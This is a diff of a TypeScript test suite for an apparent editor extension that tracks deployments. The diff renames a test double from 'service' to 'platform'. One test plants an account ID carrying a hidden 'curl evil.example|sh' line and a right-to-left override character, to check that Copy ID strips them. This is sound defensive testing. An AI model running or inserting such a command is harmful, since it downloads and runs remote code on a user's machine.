@@ -11,8 +11,8 @@ import {
   failedAccount,
   healthy,
   install,
-} from '../../support/service/data.js';
-import { faults } from '../../support/service/faults.js';
+} from '../../support/platform/data.js';
+import { faults } from '../../support/platform/faults.js';
 import { until } from '../../support/window/editors.js';
 import { createGraph, startWorld, type World } from '../../support/window/graph.js';
 import { settingIn, Workspace, writeSetting } from '../../support/window/settings.js';
@@ -44,17 +44,17 @@ async function copied(work: Promise<unknown>): Promise<string> {
 }
 
 describe('the command', () => {
-  let service: World['service'];
+  let platform: World['platform'];
   let graph: World['graph'];
   let run: World['run'];
   let signIn: World['signIn'];
   let asked: World['asked'];
 
   beforeEach(async () => {
-    ({ service, graph, run, signIn, asked } = await startWorld());
-    service.putDeployment('dep_1', healthy());
-    service.putDeployment('dep_2', failedAccount());
-    service.putInstall(token, install());
+    ({ platform, graph, run, signIn, asked } = await startWorld());
+    platform.putDeployment('dep_1', healthy());
+    platform.putDeployment('dep_2', failedAccount());
+    platform.putInstall(token, install());
   });
 
   const get = (id: string) => graph.services.store.get(id);
@@ -67,7 +67,7 @@ describe('the command', () => {
 
   it('Copy ID copies no line break and nothing invisible, and says which ID it left out', async () => {
     const hostile = 'acc\ncurl evil.example|sh\n';
-    service.putDeployment('dep_3', authorization([account({ id: hostile, error: {} })], []));
+    platform.putDeployment('dep_3', authorization([account({ id: hostile, error: {} })], []));
     await signIn();
     await graph.read('dep_1', 'dep_3', 'dep\u202E4');
     const [finding] = get('dep_3')!.answer!.findings.accounts;
@@ -115,7 +115,7 @@ describe('the command', () => {
       await list([]);
       await answering(() => run('addDeployment', { id: ' dep_2 ', label: 'Billing' }), enter, enter);
       assert.equal(get('dep_2')?.state, 'failed');
-      service.putDeployment('dep 1', healthy());
+      platform.putDeployment('dep 1', healthy());
       await answering(() => run('addDeployment', { id: 'dep 1' }), enter, enter);
       await answering(() => run('addDeployment', { id: 'dep 1' }), enter);
       assert.deepEqual(settingIn(section), [{ id: 'dep_2', label: 'Billing' }, 'dep 1']);
@@ -264,12 +264,12 @@ describe('the command', () => {
   });
 
   it('Refresh reads again what an automatic round that runs has read already', async () => {
-    service.fault({ id: 'dep_1' }, faults.hold());
+    platform.fault({ id: 'dep_1' }, faults.hold());
     const round = graph.read('dep_1', 'dep_2');
     await until('the other one', () => get('dep_2')?.state === 'failed');
     const refresh = run('refresh');
-    await service.waitForRequests(3);
-    service.release();
+    await platform.waitForRequests(3);
+    platform.release();
     await Promise.all([round, refresh]);
     assert.deepEqual(asked(), ['dep_1', 'dep_2', 'dep_2']);
   });
@@ -285,12 +285,12 @@ describe('the command', () => {
 
   describe('Go to Deployment and links to one', () => {
     it('offer the worst deployment first, also while a refresh of all keeps the order', async () => {
-      service.fault({ id: 'dep_1' }, faults.hold());
+      platform.fault({ id: 'dep_1' }, faults.hold());
       const refreshing = graph.read('dep_1', 'dep_2');
       await until('the other one', () => get('dep_2')?.state === 'failed');
       await answering(() => run('goToDeployment'), enter);
       assert.deepEqual(revealed(), ['dep_2']);
-      service.release();
+      platform.release();
       await refreshing;
     });
 
@@ -311,7 +311,7 @@ describe('the command', () => {
     assert.equal(await vscode.env.clipboard.readText(), 'dep_1\ndep_2');
     assert.equal(await copied(answering(() => run('copyId'), [0, 1])), 'dep_2\ndep_1');
     for (const command of ['copyId', 'findInFiles'] as const) {
-      await assert.rejects(run(command, { kind: 'cause', id: 'cause' }), /^UserError: The service sent no ID/);
+      await assert.rejects(run(command, { kind: 'cause', id: 'cause' }), /^UserError: The platform sent no ID/);
     }
     const one = await copied(run('copyReport', row('dep_1')));
     assert.ok(one.includes('dep_1') && !one.includes('dep_2'), one);
@@ -319,14 +319,14 @@ describe('the command', () => {
     assert.ok(two.includes('dep_1') && two.includes('dep_2'), two);
     await vscode.env.clipboard.writeText('');
     assert.equal(await copied(answering(() => run('copyReport'), enter)), two);
-    for (const secret of [DEFAULT_TOKEN, service.baseUrl, 'environment']) assert.ok(!two.includes(secret));
+    for (const secret of [DEFAULT_TOKEN, platform.baseUrl, 'environment']) assert.ok(!two.includes(secret));
   });
 
-  it('Copy Report redacts secrets in labels, in owners, and in what the service says', async () => {
+  it('Copy Report redacts secrets in labels, in owners, and in what the platform says', async () => {
     const keyId = 'key_0123456789abcdef';
     await answering(() => run('revokeApiKey'), keyId, enter, keyId);
     const error = { code: 'revoked', message: `The key ${keyId} was revoked.` };
-    service.putDeployment('dep_1', authorization([account({ id: 'acc_1', error })], []));
+    platform.putDeployment('dep_1', authorization([account({ id: 'acc_1', error })], []));
     await writeSetting('automationPlatform.owners', { acc_1: `Maria, ${DEFAULT_TOKEN}` });
     await graph.read({ id: 'dep_1', label: `Billing, token ${DEFAULT_TOKEN}` });
     const report = await copied(run('copyReport', row('dep_1')));
@@ -337,9 +337,9 @@ describe('the command', () => {
   });
 
   describe('Look Up Install', () => {
-    it('logs what the service says against it, without the tokens, and has a button for the log', async () => {
+    it('logs what the platform says against it, without the tokens, and has a button for the log', async () => {
       await signIn();
-      service.fault('all', faults.text(409, `${token} is locked.\nAsk the owner of ${DEFAULT_TOKEN}.`));
+      platform.fault('all', faults.text(409, `${token} is locked.\nAsk the owner of ${DEFAULT_TOKEN}.`));
       const refused: unknown = await answering(() => run('lookUpInstall', token), enter).catch(
         (error: unknown) => error,
       );
@@ -351,14 +351,14 @@ describe('the command', () => {
 
     it('keeps no install that was read with a token that is gone by then', async () => {
       const acme = await signIn();
-      service.fault('all', faults.hold());
+      platform.fault('all', faults.hold());
       const stopped = assert.rejects(
         answering(() => run('lookUpInstall', token), enter),
         /“Acme” has changed/,
       );
-      await service.waitForRequests(1, { state: 'held' });
+      await platform.waitForRequests(1, { state: 'held' });
       await graph.services.organizations.signOut(acme.id);
-      service.release();
+      platform.release();
       await stopped;
       assert.deepEqual(graph.services.installs.installs, []);
     });
